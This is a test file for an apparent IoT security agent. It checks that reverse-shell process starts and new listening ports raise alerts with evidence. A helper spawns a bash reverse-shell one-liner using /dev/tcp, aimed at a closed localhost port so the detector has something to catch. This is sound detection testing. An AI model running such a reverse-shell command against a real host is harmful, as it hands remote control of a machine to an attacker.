import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { seconds } from '../../src/core/base/duration.ts';
import { DEVICE, MODULE, STEADY, TestBed } from './test-bed.ts';

/** A closed port: the kernel refuses the connection. */
const CLOSED = '127.0.0.1/1';
/** Number of alerts of level high in the reported properties; NaN if they have no number. */
const reportedHigh = (status: unknown): number =>
  Number((status as { detections?: { alerts?: { high?: number } } } | undefined)?.detections?.alerts?.high);

const PAUSE = { duration: 'PT1H', reason: 'An update' };

describe('The detections', function () {
  this.timeout(120_000);
  let bed: TestBed;

  beforeEach(async () => {
    bed = await TestBed.open({ desired: STEADY });
    bed.writeConfiguration({ detections: { enabled: true } });
    bed.startWith(STEADY);
  });
  afterEach(() => bed.close());

  /** Starts a reverse shell to a closed port. It runs for a while: without audit, starts are found by polling. */
  const reverseShell = async (marker: string) => {
    const script = `: ${marker}; bash -i >& /dev/tcp/${CLOSED} 0>&1; sleep 2; :`;
    const child = spawn('/bin/bash', ['-c', script], { stdio: 'ignore' });
    await once(child, 'exit');
  };
  /** Other tests on this machine also run reverse shells. */
  const alerts = (marker: string) =>
    bed
      .elements('SecurityAlert')
      .filter(
        ({ AlertType, CommandLine }) =>
          AlertType === 'IoT_ReverseShell' && String(CommandLine).includes(`: ${marker};`),
      );

  it('raise an alert with its evidence even if the events that they evaluate are Off', async () => {
    const agent = bed.startAgent();
    await agent.waitForStatus(
      ({ hub, configuration }) => hub.state === 'connected' && configuration.source === 'desired',
    );
    // The status of a collector that is off does not show whether the agent already reads starts.
    const marker = `one-${process.pid}`;
    const tried = setInterval(() => void reverseShell(marker), 1_000);
    try {
      await bed.waitForEvents(() => alerts(marker).length > 0);
    } finally {
      clearInterval(tried);
    }
    const [alert = {}] = alerts(marker);
    assert.match(String(alert.CommandLine), /\/dev\/tcp\/127\.0\.0\.1\/1/);
    assert.deepEqual([alert.EventName, alert.Count, alert.RuleSource], ['ProcessCreate', 1, 'builtin']);
    assert.match(String(alert.Techniques), /T1059/);
    assert.match(String(alert.ParentExecutable), /node/, JSON.stringify(alert));
    assert.ok(String(alert.Remediation).length > 10);
    assert.deepEqual(bed.elements('ProcessCreate'), []);

    bed.desire({ ...STEADY, detectionsDisabledRules: { value: 'IoT_ReverseShel' } });
    await agent.waitForStatus(({ configuration: { warnings } }) => 'detectionsDisabledRules' in warnings);
    const { detections, configuration } = await agent.status();
    assert.match(String(configuration.warnings.detectionsDisabledRules), /did you mean "IoT_ReverseShell"/);
    assert.equal(detections?.state, 'on', JSON.stringify(detections));
    assert.ok((detections?.alerts.high ?? 0) >= 1);
    // Another program of this machine, such as a compiler, may have raised an alert since.
    const last = detections?.last?.type ?? assert.fail();
    await bed.waitForEvents(() => bed.elements('SecurityAlert').some(({ AlertType }) => AlertType === last));
  });

  it('update the reported properties at the first alert, long before the next counters', async () => {
    bed.desire({ ...STEADY, highPriorityMessageFrequency: { value: 'PT1H' } });
    const agent = bed.startAgent();
    await agent.waitForStatus(
      ({ hub, configuration }) => hub.state === 'connected' && configuration.source === 'desired',
    );
    const { securityAgent: atFirst } = await bed.hub.waitForReported(
      ({ securityAgent }) => !Number.isNaN(reportedHigh(securityAgent)),
    );
    const tried = setInterval(() => void reverseShell('early'), 1_000);
    try {
      await bed.hub.waitForReported(({ securityAgent }) => reportedHigh(securityAgent) > reportedHigh(atFirst));
    } finally {
      clearInterval(tried);
    }
  });

  it('raise an alert for a port opened between two snapshots even if ListeningPorts is Off and collection is paused', async () => {
    const off = { ...STEADY, snapshotFrequency: { value: 'PT13H' }, eventPriorityListeningPorts: { value: 'Off' } };
    bed.desire(off);
    const agent = bed.startAgent();
    await agent.waitForStatus(
      ({ hub, configuration }) => hub.state === 'connected' && configuration.source === 'desired',
    );
    const { status } = await bed.hub.invokeMethod(DEVICE, MODULE, 'pause', PAUSE);
    assert.equal(status, 200);
    await agent.waitForStatus(({ pause }) => pause !== undefined);
    const server = createServer().listen(0, '0.0.0.0');
    try {
      await once(server, 'listening');
      const port = String((server.address() as AddressInfo).port);
      const found = () => bed.elements('SecurityAlert').filter(({ LocalPort }) => LocalPort === port);
      await bed.waitForEvents(() => found().length > 0, seconds(60));
      assert.deepEqual(
        found().map(({ AlertType, EventName, Count }) => [AlertType, EventName, Count]),
        [['VAKT_NewListeningPort', 'ListeningPorts', 1]],
      );
      assert.ok(!bed.elements('ListeningPorts').some(({ LocalPort }) => LocalPort === port));
    } finally {
      server.close();
    }
  });
});
